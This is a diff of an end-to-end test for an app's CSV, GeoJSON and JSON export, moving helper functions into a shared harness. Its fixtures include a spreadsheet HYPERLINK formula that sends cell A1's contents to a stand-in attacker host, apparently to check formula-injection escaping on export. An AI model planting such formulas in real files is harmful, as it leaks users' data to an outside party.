@@ -22,10 +22,11 @@ import {
   openApp,
   onboard,
   until,
-  syncState,
   screenshot,
   cli,
   assertAccessible,
+  online,
+  totalWhere,
 } from './harness.mjs';
 
 after(cleanup);
@@ -36,17 +37,6 @@ const SECTOR = 'energy';
 const FORMULA = '=HYPERLINK("https://attacker.invalid/?d="&A1,"Open")';
 const FORMULA_LINES = '+1+1\nsecond line';
 const ARABIC = 'مشروع اختبار التصدير';
-
-async function totalWhere(page, what, ok) {
-  return until(
-    what,
-    async () => {
-      const v = await page.getByTestId('total').getAttribute('data-total');
-      return v !== '' && ok(Number(v)) ? Number(v) : false;
-    },
-    20000,
-  );
-}
 
 // Clicks the export button of `format`; returns the file's name and bytes
 // once the page says it is done.
@@ -114,7 +104,7 @@ test('export the Discover result as CSV, GeoJSON and JSON', { timeout: 280000 },
   const page = await openApp(context, node);
   await page.setViewportSize({ width: 1280, height: 900 });
   await onboard(page, { invite: admin.invite() });
-  await until('online', async () => (await syncState(page)) === 'online', 30000);
+  await online(page, 'the app');
   await totalWhere(page, 'the whole space', (n) => n > expected.length);
   await page.getByTestId('facet-sector').selectOption(SECTOR);
   const total = await totalWhere(page, `the ${SECTOR} result`, (n) => n === expected.length);
